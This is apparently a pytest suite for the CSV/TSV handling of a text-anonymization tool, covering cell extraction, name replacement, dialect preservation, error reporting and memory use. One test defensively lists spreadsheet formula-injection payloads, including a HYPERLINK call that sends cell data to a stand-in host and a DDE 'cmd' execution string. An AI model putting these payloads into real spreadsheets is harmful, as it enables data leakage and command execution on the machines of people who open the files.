import csv
import io
import tracemalloc

import pytest
from hypothesis import given
from hypothesis import strategies as st

from nescio import anonymize_file
from nescio.document import Verdict
from nescio.errors import InputError, OutputError
from nescio.formats.io.options import Options
from nescio.formats.io.source import Source
from nescio.formats.tables import blocks
from nescio.formats.tables.delimited import CsvFormat, TsvFormat
from nescio.pipeline import Pipeline
from tests.formats.finishing import documents, finished, problems, source, write

TICKETS = b'id,opened,comment\r\n1,3,"Ms Reed wrote:\r\n""call me, please"""\r\n2,4,\r\n3,5,Reed called again\r\n'


def read(data, format=None, **options):
    return list((format or CsvFormat)(Options(**options)).read(source(data, "t.csv")))


def written(data, path, replacements=(), format=None, **options):
    format = (format or CsvFormat)(Options(**options))
    origin = source(data, "t.csv")
    done = (finished(document, replacements) for document in documents(format.read(origin)))
    return write(format, done, path, origin)


def table(data, **dialect):
    return list(csv.reader(io.StringIO(data.decode(), newline=""), **dialect))


def test_a_table_is_one_document_with_its_cells_behind_the_names_of_their_columns():
    (document,) = read(b"id,name,city\n1,Anna Ott,Ulm\n2,Eva Kern,Bonn\n")
    assert document.id == "t.csv"
    assert document.text == "id\nname\ncity\n\nname: Anna Ott\ncity: Ulm\n\nname: Eva Kern\ncity: Bonn"
    assert [document.text[start:end] for start, end in document.meta["labels"][:3]] == ["id", "name", "city"]
    starts = {document.text.index(word) for word in ("Anna", "city: Ulm", "Ulm", "Eva")}
    assert starts <= set(document.meta["boundaries"])


def test_one_person_has_one_tag_in_all_rows(tmp_path):
    origin = source(b"name,note\nAnna Kowalska,came\nEva Kern,met Anna Kowalska\n", "t.csv")
    (document,) = CsvFormat().read(origin)
    done = Pipeline.from_policy("gdpr", model="none").run(document)
    _, data = write(CsvFormat(), [done], tmp_path / "o.csv", origin)
    rows = table(data)
    assert rows[1][0] in rows[2][1]
    assert rows[1][0] != rows[2][0]
    assert b"Kowalska" not in data


def test_a_name_in_the_header_is_read_and_a_word_of_a_header_is_a_label(tmp_path):
    data = b"date,Kowalska,total\n2020,4,9\n"
    (document,) = read(data)
    assert "Kowalska" in document.text
    assert table(written(data, tmp_path / "o.csv", [("Kowalska", "N.N.")])[1])[0] == ["date", "N.N.", "total"]


def test_measured_values_are_not_read_but_coordinates_and_numbers_of_people_are():
    data = b"name,rate,latitude,account\nOtt,34.004504,48.401082,0731555123\n"
    (document,) = read(data)
    assert "34.004504" not in document.text
    assert "48.401082" in document.text
    assert "0731555123" in document.text


def test_a_very_long_table_is_several_documents_and_the_user_is_told(tmp_path, monkeypatch):
    monkeypatch.setattr(blocks, "LONGEST_BLOCK", 40)
    data = b"id,name\n" + b"".join(b"%d,Reed %d\n" % (n, n) for n in range(9))
    origin = source(data, "t.csv")
    found = list(CsvFormat().read(origin))
    assert len(found) > 2
    assert found[0].id == "t.csv"
    assert len({d.id for d in found}) == len(found)
    report, out = write(CsvFormat(), [finished(d, [("Reed", "N.")]) for d in found], tmp_path / "o.csv", origin)
    assert out == data.replace(b"Reed", b"N.")
    assert "read in 3 blocks: what one thing is called" in report.notes[0]


def test_of_chosen_columns_every_cell_is_a_document_named_by_row_and_column():
    items = read(TICKETS, columns=("comment",))
    assert [(d.id, d.text) for d in items] == [
        ("t.csv:2:comment", 'Ms Reed wrote:\r\n"call me, please"'),
        ("t.csv:4:comment", "Reed called again"),
    ]
    assert items[1].meta["row"] == 4
    assert items[1].meta["line"] == 5
    assert items[1].meta["column"] == "comment"


def test_only_the_edited_cells_change(tmp_path):
    report, data = written(TICKETS, tmp_path / "o.csv", [("Reed", "N.")])
    assert data == TICKETS.replace(b"Reed", b"N.")
    assert report.documents == 1
    report, data = written(TICKETS, tmp_path / "o.csv", [("Reed", "N.")], columns=("comment",))
    assert data == TICKETS.replace(b"Reed", b"N.")
    assert report.documents == 2


def test_rows_in_which_nothing_changes_stay_as_they_were_written(tmp_path):
    data = b'id,text\r\n1,"needless quotes"\r\n2,Reed\n3,"a",b,c\n'
    assert written(data, tmp_path / "o.csv", [("Reed", "N.")])[1] == data.replace(b"Reed\n", b"N.\r\n")


def test_untouched_tables_come_back_in_their_dialect(tmp_path):
    for data in (
        b"id;text\n1;Herr Ott, Ulm\n2;ok\n",
        b'"id","text"\n"1","Herr ""Ott"""\n"2","ok"\n',
        b"id|name\r1|Ott\r2|Ulm\r",
        b"'id','text'\n'1','it''s Ott, from Ulm'\n'2','ok'\n",
        b"id\ttext\n1\tOtt\n\n2\tUlm\n",
        "id;text\n1;Jörg Weiß\n".encode("cp1252"),
        "id,text\n1,Jörg Weiß\n".encode("utf-16"),
        "\ufeffid,text\n1,Jörg Weiß\n".encode(),
    ):
        assert written(data, tmp_path / "o.csv")[1] == data


def test_columns_by_name_or_number():
    data = b"name,city,comment\nOtt,Ulm,fine\n"
    assert [d.id for d in read(data, columns=("comment",))] == ["t.csv:2:comment"]
    assert [d.text for d in read(data, columns=("1", "3"))] == ["Ott", "fine"]
    with pytest.raises(InputError, match="has no column 'remark'; the table has 3 columns"):
        read(data, columns=("remark",))


def test_names_and_numbers_outside_prose_are_read_too():
    (document,) = read(b"id,name,phone,score\n1,Ott,0731 555 123,4.5\n")
    assert document.text.endswith("name: Ott\nphone: 0731 555 123")


def test_a_first_row_that_is_data_is_not_taken_for_a_header(tmp_path):
    data = b"Roland,Ott,Ulm\nEva,Kern,Bonn\n"
    assert [d.id for d in read(data, columns=("1", "2"))][:2] == ["t.csv:1:1", "t.csv:1:2"]
    assert [d.text for d in read(data)] == ["Roland\nOtt\nUlm\n\nEva\nKern\nBonn"]
    assert b"Ott" not in written(data, tmp_path / "o.csv", [("Ott", "N.")])[1]


def test_german_and_camel_case_headers_are_headers():
    for header in (b"Kundennummer,Bemerkung", b"customerId,freeText", b"Datum,Arztbericht"):
        (document,) = read(header + b"\n1,ja\n")
        assert document.text.endswith(f"{header.decode().partition(',')[2]}: ja")


def test_double_and_empty_column_names_stay_apart():
    items = read(b"id,text,text,\n1,a,b,c\n", columns=("2", "3", "4"))
    assert [d.id for d in items] == ["t.csv:2:text", "t.csv:2:text#3", "t.csv:2:#4"]


@pytest.mark.parametrize("columns", [(), ("text",)])
def test_rows_of_another_width_are_read_as_they_are(tmp_path, columns):
    data = b"id,text\n1,Reed\n2,Reed,of Ulm\n3\n4,Kern\n"
    assert problems(read(data, columns=columns)) == []
    _, out = written(data, tmp_path / "o.csv", [("Reed", "N.")], columns=columns)
    assert out == data.replace(b"Reed", b"N.")


def test_wrong_quotes_are_reported_and_the_rest_goes_on():
    items = read(b'id,text\n1,"Reed" called\n2,fine\n3,"never closed\n4,lost\n')
    assert [message.split(": ")[0] for message in problems(items)] == ["t.csv:2", "t.csv:4"]
    assert [d.text for d in documents(items)] == ["id\ntext\n\ntext: fine"]


def test_bytes_that_cannot_be_decoded_fail_their_row_only(tmp_path):
    data = "id,text\n1,Jörg und Jürgen\n".encode() + b"2,J\xf6rg\n3,ok\n"
    items = read(data)
    assert problems(items) == ["t.csv:3: is not valid utf-8; convert the file to UTF-8"]
    assert written(data, tmp_path / "o.csv")[1] == "id,text\n1,Jörg und Jürgen\n,\n3,ok\n".encode()


def test_a_cell_that_failed_is_emptied_and_no_row_shifts(tmp_path):
    origin = source(b"id,text\n1,Reed\n2,Kern\n3,Ott\n", "t.csv")
    format = CsvFormat(Options(columns=("text",)))
    first, second, third = format.read(origin)
    done = [finished(first, verdict=Verdict(False)), finished(third)]
    report, data = write(format, done, tmp_path / "o.csv", origin)
    assert data == b"id,text\n1,\n2,\n3,Ott\n"
    assert [str(f).split(": ")[0] for f in report.failures] == ["t.csv:2", "t.csv:3"]
    assert second.id == "t.csv:3:text"


def test_a_table_that_failed_is_emptied_and_keeps_its_shape(tmp_path):
    origin = source(b"id,text\n1,Reed\n2,Kern\n", "t.csv")
    (document,) = CsvFormat().read(origin)
    report, data = write(CsvFormat(), [finished(document, verdict=Verdict(False))], tmp_path / "o.csv", origin)
    assert data == b",\n1,\n2,\n"
    assert len(report.failures) == 1


def test_results_in_another_order_are_refused_and_leave_no_file(tmp_path):
    origin, format = source(b"id,text\n1,Reed\n2,Kern\n", "t.csv"), CsvFormat(Options(columns=("text",)))
    first, second = format.read(origin)
    with pytest.raises(OutputError, match="order"):
        write(format, [finished(second), finished(first)], tmp_path / "o.csv", origin)
    assert list(tmp_path.iterdir()) == []


def test_empty_tables_and_headers_alone(tmp_path):
    assert read(b"") == []
    assert [d.text for d in read(b"id,text\n")] == ["id\ntext"]
    for data in (b"", b"id,text\n", b"1,2\n3,4\n"):
        assert written(data, tmp_path / "o.csv")[1] == data


def test_a_cell_of_ten_megabytes(tmp_path):
    data = b'id,text\n1,"' + b"Reed was here. " * 700_000 + b'"\n'
    _, out = written(data, tmp_path / "o.csv", [])
    assert table(out)[1][1] == "Reed was here. " * 700_000


def test_tsv_with_literal_quotes(tmp_path):
    data = b'id\ttext\n1\t"Reed" said so\n2\tthe 5" pipe\n'
    assert [d.text for d in read(data, TsvFormat, columns=("text",))] == ['"Reed" said so', 'the 5" pipe']
    assert written(data, tmp_path / "o.tsv", [("Reed", "N.")], TsvFormat)[1] == data.replace(b"Reed", b"N.")


def test_a_replacement_that_an_unquoted_table_cannot_hold_empties_the_cell(tmp_path):
    data = b'id\ttext\n1\t"Reed" said so\n2\tfine\n'
    report, out = written(data, tmp_path / "o.tsv", [("Reed", "a\tb")], TsvFormat)
    assert out == b"id\ttext\n1\t\n2\tfine\n"
    assert len(report.failures) == 1


def test_a_legacy_table_becomes_utf8_when_a_replacement_does_not_fit(tmp_path):
    report, out = written("id;text\n1;Jörg Weiß\n".encode("cp1252"), tmp_path / "o.csv", [("Weiß", "█")])
    assert out.decode("utf-8-sig") == "id;text\n1;Jörg █\n"
    assert "t.csv: written as UTF-8" in report.notes[0]


def test_a_large_table_is_read_and_written_in_little_memory(tmp_path):
    big = tmp_path / "big.csv"
    with big.open("w") as file:
        file.write("id,text\n")
        for number in range(4000):
            file.write(f"{number},{'The applicant lodged a complaint. ' * 60}\n")
    origin = Source.of(big)
    assert big.stat().st_size > 8_000_000
    tracemalloc.start()
    try:
        read_back = 0
        format = CsvFormat(Options(columns=("text",)))
        for document in format.read(origin):
            read_back += len(document.text)
        read_peak = tracemalloc.get_traced_memory()[1]
        done = (finished(document) for document in format.read(origin))
        _, out = write(format, done, tmp_path / "o.csv", origin)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert out == big.read_bytes()
    assert read_peak < 4_000_000
    assert peak < len(out) + 5_000_000


# Formulas become text (see below).
any_text = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00")).filter(
    lambda text: text.lstrip()[:1] not in ("=", "@", "+", "-") or not text.strip()
)


@given(st.lists(any_text, min_size=1, max_size=5), st.sampled_from([",", ";", "\t", "|"]))
def test_any_cell_comes_back_exactly(tmp_path_factory, cells, delimiter):
    path = tmp_path_factory.mktemp("csv") / "in.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        rows = csv.writer(file, delimiter=delimiter, quoting=csv.QUOTE_ALL)
        rows.writerows([["id", "text"], *([str(n), cell] for n, cell in enumerate(cells))])
    origin = Source.of(path)
    format = CsvFormat(Options(columns=("text",)))
    assert [d.text for d in format.read(origin)] == [cell for cell in cells if cell]
    done = (finished(document) for document in format.read(origin))
    assert write(format, done, path.with_name("out.csv"), origin)[1] == path.read_bytes()


def test_formulas_become_text_and_nothing_else_does(tmp_path):
    """What would be computed on the machine of whoever opens the table."""
    formulas = (
        '=HYPERLINK("http://x.example/?"&A1)',
        "@SUM(1+1)",
        "-2+3+cmd|' /C calc'!A0",
        "+WEBSERVICE(A1)",
        " =1+1",
    )
    others = ("-5", "+49 (0)30 901820", "@amara said (hello)", "- came home (late)", "a=b", "1-2")
    table = "note,reply\n" + "".join(f'"{cell.replace(chr(34), chr(34) * 2)}",yes\n' for cell in (*formulas, *others))
    format, origin = CsvFormat(), source(table.encode(), "t.csv")
    report, data = write(format, map(finished, documents(format.read(origin))), tmp_path / "o.csv", origin)
    cells = [row[0] for row in csv.reader(data.decode().splitlines())][1:]
    assert cells == [*("'" + formula for formula in formulas), *others]
    assert report.notes == ["t.csv: cells that were formulas and are text now, behind an apostrophe: 5"]
    # Written once more, nothing changes, and the documents are the same: a vault knows them.
    again = source(data, "t.csv")
    assert [d.text for d in documents(format.read(again))] == [d.text for d in documents(format.read(origin))]
    assert write(format, map(finished, documents(format.read(again))), tmp_path / "o2.csv", again)[1] == data


def test_what_is_masked_in_one_block_of_a_table_is_masked_in_all(tmp_path, monkeypatch):
    monkeypatch.setattr(blocks, "LONGEST_BLOCK", 300)
    rows = [f"{number},the Zumthorsche boiler and zumthor@example.org" for number in range(20)]
    path = tmp_path / "t.csv"
    path.write_text("\n".join(["No,Remark", *rows, "21,Mr Eyup Zumthor called"]))
    report = anonymize_file(path, tmp_path / "o.csv", model="none", lang="en", replace="tag")
    assert "zumthor" not in (tmp_path / "o.csv").read_text().lower()
    assert any("blocks" in note for note in report.notes)
